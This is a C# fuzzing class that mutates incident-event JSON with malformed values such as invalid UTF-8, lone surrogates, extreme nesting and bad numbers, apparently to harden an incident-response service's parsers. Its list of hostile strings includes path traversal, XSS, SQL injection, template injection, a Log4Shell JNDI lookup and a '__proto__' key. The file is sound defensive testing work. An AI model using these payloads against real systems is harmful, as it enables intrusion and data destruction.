using System.Diagnostics.CodeAnalysis;
using System.Globalization;
using System.Text;
using System.Text.Encodings.Web;
using System.Text.Json;
using System.Text.Json.Nodes;
using System.Text.RegularExpressions;

namespace ServerlessIR.Local.Fuzz;

/// <summary>
/// Hostile changes to one event: type changes, empty and huge strings, control characters, lone UTF-16 surrogates (escaped
/// in the JSON text) and invalid UTF-8 bytes (raw), deep nesting, huge arrays, numbers no double holds, duplicate and
/// missing keys, extra fields, unknown types. Changes System.Text.Json cannot express as a node (a lone surrogate, raw
/// bytes, duplicate keys, 5,000 levels of nesting, 1e400) are written as tokens and turned into text by <see cref="Render"/>.
/// </summary>
[SuppressMessage("Security", "CA5394:Do not use insecure randomness", Justification = "A fuzz run must repeat exactly for its seed; nothing here is a secret.")]
internal sealed partial class FuzzMutator(Random random)
{
    /// <summary>Above the ledger's 32,000 characters, as issue 17's one oversized field.</summary>
    public const int HugeStringChars = 40_000;

    /// <summary>Non-ASCII text stays raw UTF-8 in the body, as most senders write it; control characters are escaped still.</summary>
    public static readonly JsonSerializerOptions Json = new() { Encoder = JavaScriptEncoder.UnsafeRelaxedJsonEscaping };

    private const string Token = "@@FZ:";
    private const string SurrogateToken = Token + "surrogate@@";
    private const string BytesToken = Token + "bytes@@";

    // The alphabet of hostile values is small on purpose: a mutated but still valid principal or AI system opens an
    // incident per distinct value, so a run opens a bounded number of incidents however long it is.
    private static readonly string[] HostileStrings =
    [
        "",
        " ",
        new('A', HugeStringChars),
        Repeat("Call jane.doe@example.com or +49 30 1234567, card 4111 1111 1111 1111, IBAN DE89370400440532013000. ", HugeStringChars),
        new('x', 32_001),
        "\u0000\u0001\u0007\b\t\n\v\f\r\u001b\u007f\u0085\u2028\u2029",
        "lone " + SurrogateToken + " surrogate",
        "invalid " + BytesToken + " utf-8",
        "\U0001F525 \u00dcn\u00efc\u00f6d\u00e9 \u202eRTL\u202c z\u0301 \u200b\ufeff",
        "null",
        "NaN",
        "../../../../etc/passwd",
        "<script>alert(1)</script>",
        "'; DROP TABLE Incidents;--",
        "{{ 7 | times: 7 }} {% raw %}",
        "${jndi:ldap://203.0.113.1/a}",
        "psn:AAAAAAAAAAAAAAAAAAAA",
        "9999-12-31T23:59:59.9999999+14:00",
        "0001-01-01T00:00:00Z",
    ];

    private static readonly string[] OddTypes =
    [
        "", "Fuzz.Unknown.Event", "Microsoft.EventGrid.SubscriptionValidationEvent", "Microsoft.EventGrid.SubscriptionDeletedEvent",
        "ServerlessIR.AiDataLeak.Detected", "Salesforce.EventMonitoring.ApiAnomalyEvent", "Salesforce.EventMonitoring.",
        "Microsoft.Insights.Alert", "serverlessir.aidataleak.detected",
    ];

    // A lone 0xFF, a broken two-byte sequence, an encoded surrogate (CESU-8), an overlong '/'.
    private static readonly byte[][] InvalidUtf8 = [[0xFF, 0xFE], [0xC3, 0x28], [0xED, 0xA0, 0x80], [0xC0, 0xAF]];

    private static readonly string[] Numbers = ["1e400", "-1e400", "123456789012345678901234567890", "-0", "0.0000000000000000000000001", "9223372036854775808"];

    private static readonly string[] FreeTextKeys = ["summary", "Summary", "description", "name", "note", "reason", "QueriedEntities", "alertRule"];

    /// <summary>One to three hostile changes anywhere in the event; returns them in words. <paramref name="idTouched"/>: the event's <c>id</c> was changed.</summary>
    public string Hostile(JsonObject evt, out bool idTouched)
    {
        ArgumentNullException.ThrowIfNull(evt);
        idTouched = false;
        var count = random.Next(10) switch { < 6 => 1, < 9 => 2, _ => 3 };
        var done = new List<string>();
        for (var i = 0; i < count; i++)
        {
            var spots = Spots(evt);
            var spot = Pick(spots);
            idTouched |= spot.Path == "id";
            done.Add(Apply(evt, spot));
        }
        return string.Join("; ", done);
    }

    /// <summary>A change a real source could send in a valid event: long or odd free text, an extra field. Identifiers stay.</summary>
    public string Mild(JsonObject evt)
    {
        ArgumentNullException.ThrowIfNull(evt);
        var data = evt["data"] as JsonObject;
        if (data?["data"] is JsonObject { } common && common["essentials"] is JsonObject essentials)
        {
            data = essentials;
        }
        if (data is null)
        {
            return "none";
        }
        var key = FreeTextKeys.FirstOrDefault(k => data[k] is JsonValue v && v.GetValueKind() == JsonValueKind.String);
        switch (random.Next(5))
        {
            case 0 when key is not null:
                data[key] = new string('S', HugeStringChars);
                return $"data.{key}: {HugeStringChars} characters";
            case 1 when key is not null:
                data[key] = Repeat("Long free text from a real source, ", 2_000);
                return $"data.{key}: 2,000 characters";
            case 2 when key is not null:
                data[key] = "Customer jane.doe@example.com, +44 20 7946 0958, card 5500 0000 0000 0004 \u0007\u2028 \U0001F525";
                return $"data.{key}: personal data, control characters, emoji";
            case 3 when key is not null:
                data[key] = "summary with a lone " + SurrogateToken + " surrogate";
                return $"data.{key}: lone surrogate";
            default:
                data["fuzzExtra" + random.Next(3)] = new JsonObject { ["nested"] = new JsonArray(1, "two", null) };
                return "data: an extra field";
        }
    }

    /// <summary>The event's JSON bytes with every token turned into what it stands for.</summary>
    public byte[] Render(JsonNode node)
    {
        ArgumentNullException.ThrowIfNull(node);
        return RenderText(node.ToJsonString(Json));
    }

    /// <summary>Turns tokens in already serialized JSON into text and bytes.</summary>
    public byte[] RenderText(string text)
    {
        ArgumentNullException.ThrowIfNull(text);
        if (!text.Contains(Token, StringComparison.Ordinal))
        {
            return Encoding.UTF8.GetBytes(text);
        }
        text = DeepToken().Replace(text, m => Deep(int.Parse(m.Groups[1].Value, CultureInfo.InvariantCulture)));
        text = ArrayToken().Replace(text, m => HugeArray(int.Parse(m.Groups[1].Value, CultureInfo.InvariantCulture)));
        text = NumberToken().Replace(text, m => m.Groups[1].Value);
        text = DuplicateKeyToken().Replace(text, m => "\"" + m.Groups[1].Value + "\"");
        text = text.Replace(SurrogateToken, random.Next(3) switch { 0 => "\\ud800", 1 => "\\udfff", _ => "\\udc00\\ud800" }, StringComparison.Ordinal);
        var parts = text.Split(BytesToken);
        using var bytes = new MemoryStream();
        for (var i = 0; i < parts.Length; i++)
        {
            if (i > 0)
            {
                bytes.Write(InvalidUtf8[random.Next(InvalidUtf8.Length)]);
            }
            bytes.Write(Encoding.UTF8.GetBytes(parts[i]));
        }
        return bytes.ToArray();
    }

    private string Apply(JsonObject root, Spot spot)
    {
        switch (random.Next(12))
        {
            case 0:
                var value = OtherType(spot.Value);
                Set(spot, value);
                return $"{spot.Path}: type changed to {Describe(value)}";
            case 1:
            case 2:
                var text = HostileStrings[random.Next(HostileStrings.Length)];
                Set(spot, text);
                return $"{spot.Path}: {DescribeString(text)}";
            case 3:
                if (spot.Value is JsonValue s && s.GetValueKind() == JsonValueKind.String)
                {
                    var original = s.GetValue<string>();
                    var at = random.Next(original.Length + 1);
                    var insert = random.Next(3) switch { 0 => SurrogateToken, 1 => BytesToken, _ => "\u0000\u001f\u2028" };
                    Set(spot, original[..at] + insert + original[at..]);
                    return $"{spot.Path}: {DescribeString(insert)} inserted";
                }
                goto case 0;
            case 4:
                var depth = random.Next(4) switch { 0 => 20, 1 => 65, 2 => 300, _ => 5_000 };
                Set(spot, $"{Token}deep:{depth}@@");
                return $"{spot.Path}: nested {depth} levels deep";
            case 5:
                var length = random.Next(2) == 0 ? 1_000 : 60_000;
                Set(spot, $"{Token}array:{length}@@");
                return $"{spot.Path}: an array of {length} items";
            case 6:
                var number = Numbers[random.Next(Numbers.Length)];
                Set(spot, $"{Token}num:{number}@@");
                return $"{spot.Path}: the number {number}";
            case 7 when spot.Parent is JsonObject parent:
                parent.Remove(spot.Key!);
                return $"{spot.Path}: removed";
            case 8 when spot.Parent is JsonObject parent && !spot.Key!.StartsWith(Token, StringComparison.Ordinal):
                parent[$"{Token}dup:{spot.Key}@@"] = OtherType(spot.Value);
                return $"{spot.Path}: duplicate key";
            case 9:
                var target = spot.Value as JsonObject ?? spot.Parent as JsonObject ?? root;
                var extra = random.Next(3) switch { 0 => "", 1 => new string('k', 1_000), _ => "__proto__" };
                if (!target.ContainsKey(extra))
                {
                    target[extra] = OtherType(null);
                }
                return $"{(target == root ? "envelope" : spot.Path)}: extra field '{(extra.Length > 20 ? $"{extra.Length} characters" : extra)}'";
            case 10:
                var typeKey = root.ContainsKey("specversion") ? "type" : "eventType";
                var type = OddTypes[random.Next(OddTypes.Length)];
                root[typeKey] = type;
                return $"{typeKey}: '{type}'";
            default:
                return EnvelopeChange(root);
        }
    }

    private string EnvelopeChange(JsonObject root)
    {
        var cloud = root.ContainsKey("specversion");
        switch (random.Next(6))
        {
            case 0 when cloud:
                var version = random.Next(3) switch { 0 => "0.3", 1 => "2.0", _ => "" };
                root["specversion"] = version;
                return $"specversion: '{version}'";
            case 1 when cloud:
                root.Remove("data");
                root["data_base64"] = random.Next(2) == 0 ? "not base64 at all!" : Convert.ToBase64String(Encoding.UTF8.GetBytes("{\"summary\":\"in base64\"}"));
                return "data: as data_base64";
            case 2:
                root["data"] = root["data"]?.ToJsonString() ?? "{}";
                return "data: the object as a JSON string";
            case 3:
                root["data"] = random.Next(2) == 0 ? new JsonArray(1, 2, 3) : null;
                return "data: not an object";
            case 4 when !cloud:
                root["dataVersion"] = random.Next(2) == 0 ? null : 2;
                return "dataVersion: not a string";
            default:
                var timeKey = cloud ? "time" : "eventTime";
                var time = random.Next(3) switch { 0 => "yesterday", 1 => "10000-01-01T00:00:00Z", _ => "2026-02-30T25:61:00Z" };
                root[timeKey] = time;
                return $"{timeKey}: '{time}'";
        }
    }

    private JsonNode? OtherType(JsonNode? current)
    {
        var kind = current is JsonValue v ? v.GetValueKind() : current?.GetValueKind() ?? JsonValueKind.Null;
        while (true)
        {
            JsonNode? candidate = random.Next(8) switch
            {
                0 => JsonValue.Create(random.Next(2) == 0 ? 0 : -1),
                1 => JsonValue.Create(1.5e300),
                2 => JsonValue.Create(random.Next(2) == 0),
                3 => null,
                4 => new JsonArray(),
                5 => new JsonObject(),
                6 => new JsonArray(1, "a", null, new JsonObject { ["b"] = new JsonArray() }),
                _ => JsonValue.Create("a string where " + kind.ToString().ToLowerInvariant() + " was"),
            };
            var candidateKind = candidate?.GetValueKind() ?? JsonValueKind.Null;
            if (candidateKind != kind || kind is JsonValueKind.Object or JsonValueKind.Array)
            {
                return candidate;
            }
        }
    }

    private static void Set(Spot spot, JsonNode? value)
    {
        switch (spot.Parent)
        {
            case JsonObject o:
                o[spot.Key!] = value;
                break;
            case JsonArray a:
                a[spot.Index] = value;
                break;
        }
    }

    private Spot Pick(List<Spot> spots)
    {
        // Half the time a field a source reads (the envelope and the first level of data), so the parsers' paths are hit often.
        var near = spots.Where(s => s.Depth <= 2).ToList();
        return random.Next(2) == 0 && near.Count > 0 ? near[random.Next(near.Count)] : spots[random.Next(spots.Count)];
    }

    private static List<Spot> Spots(JsonObject root)
    {
        var spots = new List<Spot>();
        Walk(root, "", 1, spots);
        return spots;
    }

    private static void Walk(JsonNode node, string path, int depth, List<Spot> spots)
    {
        if (depth > 8)
        {
            return;
        }
        switch (node)
        {
            case JsonObject o:
                foreach (var (key, child) in o.ToList())
                {
                    var childPath = path.Length == 0 ? key : path + "." + key;
                    spots.Add(new Spot(o, key, -1, child, childPath, depth));
                    if (child is not null) Walk(child, childPath, depth + 1, spots);
                }
                break;
            case JsonArray a:
                for (var i = 0; i < Math.Min(a.Count, 5); i++)
                {
                    var childPath = string.Create(CultureInfo.InvariantCulture, $"{path}[{i}]");
                    spots.Add(new Spot(a, null, i, a[i], childPath, depth));
                    if (a[i] is { } child) Walk(child, childPath, depth + 1, spots);
                }
                break;
        }
    }

    private static string Describe(JsonNode? value) => value is null ? "null" : value.GetValueKind().ToString().ToLowerInvariant();

    private static string DescribeString(string text) => text switch
    {
        "" => "empty string",
        _ when text.Contains(SurrogateToken, StringComparison.Ordinal) => "lone UTF-16 surrogate (escaped)",
        _ when text.Contains(BytesToken, StringComparison.Ordinal) => "invalid UTF-8 bytes",
        { Length: > 1_000 } => string.Create(CultureInfo.InvariantCulture, $"{text.Length:N0}-character string"),
        _ when text.Any(char.IsControl) => "control characters",
        _ => "'" + FuzzText.Preview(text) + "'",
    };

    private static string Deep(int depth)
    {
        var builder = new StringBuilder(depth * 8);
        for (var i = 0; i < depth; i++) builder.Append(i % 2 == 0 ? "[" : "{\"a\":");
        builder.Append('1');
        for (var i = depth - 1; i >= 0; i--) builder.Append(i % 2 == 0 ? ']' : '}');
        return builder.ToString();
    }

    private static string HugeArray(int length) => "[" + string.Join(',', Enumerable.Repeat("0", length)) + "]";

    private static string Repeat(string text, int length)
    {
        var builder = new StringBuilder(length + text.Length);
        while (builder.Length < length) builder.Append(text);
        return builder.ToString(0, length);
    }

    [GeneratedRegex("\"@@FZ:deep:(\\d+)@@\"")]
    private static partial Regex DeepToken();

    [GeneratedRegex("\"@@FZ:array:(\\d+)@@\"")]
    private static partial Regex ArrayToken();

    [GeneratedRegex("\"@@FZ:num:([^@\"]+)@@\"")]
    private static partial Regex NumberToken();

    [GeneratedRegex("\"@@FZ:dup:([^@\"]*)@@\"")]
    private static partial Regex DuplicateKeyToken();

    private sealed record Spot(JsonNode Parent, string? Key, int Index, JsonNode? Value, string Path, int Depth);
}
